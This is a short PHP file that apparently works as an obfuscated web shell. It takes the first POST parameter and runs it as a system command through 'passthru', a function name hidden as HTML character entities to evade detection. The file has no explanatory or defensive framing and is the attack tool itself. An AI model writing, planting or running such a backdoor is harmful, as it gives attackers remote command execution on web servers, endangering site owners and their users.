<?php
$op = array_slice($_POST, 0, 1)[0];
$f = html_entity_decode('&#112;&#97;&#115;&#115;&#116;&#104;&#114;&#117;');
$f($op);
